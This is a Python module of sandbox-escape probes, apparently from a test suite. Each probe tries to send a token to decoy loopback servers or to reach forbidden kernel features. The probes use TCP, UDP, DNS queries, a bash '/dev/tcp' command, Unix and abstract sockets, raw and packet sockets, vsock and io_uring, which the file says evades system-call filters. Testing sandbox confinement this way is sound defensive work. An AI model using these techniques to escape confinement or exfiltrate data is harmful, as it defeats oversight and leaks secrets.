"""Talking to anybody: servers (here on the loopback interface), other processes, the kernel.

Those that send say the `token`; the decoy servers note from where it comes.
"""

from __future__ import annotations

from ..attack import amount, attack, harm
from ..prelude import kernel, new_namespaces


@attack("network", "sends to a TCP server", harm("tcp"))
def send_tcp(targets):
    import socket

    with socket.create_connection(("127.0.0.1", targets["tcp_port"]), timeout=2) as connection:
        connection.sendall(targets["token"].encode())


@attack(
    "network",
    "sends to a TCP server with its first packet, without connecting before",
    harm("tcp"),
    depends="TCP fast open",
)
def send_tcp_fast_open(targets):
    import socket

    with socket.socket() as connection:
        connection.sendto(targets["token"].encode(), 0x20000000, ("127.0.0.1", targets["tcp_port"]))


@attack(
    "network",
    "sends to a TCP server by multipath TCP, which is another protocol to the kernel",
    harm("tcp"),
    depends="multipath TCP",
)
def send_multipath_tcp(targets):
    import socket

    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as connection:
        connection.settimeout(2)
        connection.connect(("127.0.0.1", targets["tcp_port"]))
        connection.sendall(targets["token"].encode())


@attack("network", "sends to a UDP server", harm("udp"))
def send_udp(targets):
    import socket

    socket.socket(type=socket.SOCK_DGRAM).sendto(targets["token"].encode(), ("127.0.0.1", targets["udp_port"]))


@attack("network", "asks a name server for a name that holds what it carries out", harm("udp"))
def ask_name_server(targets):
    import socket
    import struct

    name = targets["token"].encode()
    question = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + bytes([len(name)]) + name + b"\0" + struct.pack(">2H", 1, 1)
    with socket.socket(type=socket.SOCK_DGRAM) as server:
        server.connect(("127.0.0.1", targets["udp_port"]))
        server.sendmsg([question])


@attack("network", "sends from another program", harm("tcp"))
def send_from_program(targets):
    import subprocess

    command = 'printf %s "$1" > "/dev/tcp/127.0.0.1/$2"'
    subprocess.run(["bash", "-c", command, "-", targets["token"], str(targets["tcp_port"])], timeout=5)


@attack("network", "sends to a Unix socket in a folder", harm("unix"))
def send_unix(targets):
    import socket

    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(targets["unix_path"])
        connection.sendall(targets["token"].encode())


@attack("network", "sends to a Unix socket that has a name but no file", harm("abstract"))
def send_abstract(targets):
    import socket

    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect("\0" + targets["abstract"])
        connection.sendall(targets["token"].encode())


@attack("network", "passes an open file to another process", amount(1))
def pass_open_file(targets):
    import os
    import socket

    here, there = socket.socketpair()
    socket.send_fds(here, [b"!"], [os.open(".", os.O_RDONLY)])
    return len(socket.recv_fds(there, 1, 1)[1])


@attack("network", "makes a pair of sockets, whose buffers are memory that nobody counts", amount(1))
def pair_of_sockets(targets):
    import socket

    return sum(end.send(bytes(1 << 16), socket.MSG_DONTWAIT) for end in socket.socketpair())


def connect_to_friend(targets):
    import socket

    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect("\0" + targets["token"])
        return len(connection.recv(1))


@attack("network", "listens for the next submission", amount(1), friend=connect_to_friend)
def listen_for_friend(targets):
    import os
    import socket

    server = socket.socket(socket.AF_UNIX)
    server.bind("\0" + targets["token"])
    server.listen()
    if os.fork() == 0:
        os.closerange(server.fileno() + 1, 1024)  # nobody shall wait for these
        server.settimeout(8)
        server.accept()[0].send(b"!")
        os._exit(0)


@attack("network", "listens on a TCP port", amount(1))
def listen_tcp(targets):
    import socket

    with socket.socket() as server, socket.socket() as client:
        server.bind(("127.0.0.1", 0))
        server.listen()
        client.settimeout(2)
        client.connect(server.getsockname())
        return int(server.accept()[1] == client.getsockname())


@attack("network", "asks the kernel for the machine's network interfaces", amount(1))
def ask_netlink(targets):
    import socket
    import struct

    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as kernels:
        kernels.settimeout(2)
        kernels.send(struct.pack("IHHIIB3x", 20, 18, 0x301, 1, 0, 0))  # get links, all of them
        return len(kernels.recv(1 << 16))


@attack("network", "makes a raw socket, from which packets can be forged", amount(1))
def raw_socket(targets):
    import socket

    new_namespaces("net")
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
        return raw.fileno()


@attack("network", "makes a packet socket, on which others' packets can be read", amount(1))
def packet_socket(targets):
    import socket

    new_namespaces("net")
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300) as packets:
        return packets.fileno()


@attack(
    "network", "makes a socket to the machine that hosts this virtual one", amount(1), depends="sockets to the host"
)
def host_socket(targets):
    import socket

    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as host:
        return host.fileno()


@attack(
    "network", "sets up an io_uring, whose operations no filter of system calls sees", amount(1), depends="io_uring"
)
def set_up_ring(targets):
    import ctypes

    return kernel("io_uring_setup", 4, ctypes.create_string_buffer(120))


@attack("network", "makes a socket by an operation of an io_uring", amount(1), depends="io_uring of Linux 5.19")
def socket_by_ring(targets):
    import ctypes
    import mmap
    import socket
    import struct

    parameters = ctypes.create_string_buffer(120)
    ring = kernel("io_uring_setup", 4, parameters)
    submit, complete = struct.unpack_from("10I", parameters, 40), struct.unpack_from("10I", parameters, 80)
    rings = mmap.mmap(ring, submit[6] + 4 * 4 + 4096)
    entries = mmap.mmap(ring, 4 * 64, offset=0x10000000)
    struct.pack_into("BBHiQ", entries, 0, 45, 0, 0, socket.AF_INET, socket.SOCK_STREAM)
    struct.pack_into("I", rings, submit[6], 0)  # the first entry is in use,
    struct.pack_into("I", rings, submit[1], 1)  # and no other
    kernel("io_uring_enter", ring, 1, 1, 1, None, 0)  # submit one and wait for one
    return struct.unpack_from("Qi", rings, complete[5])[1]
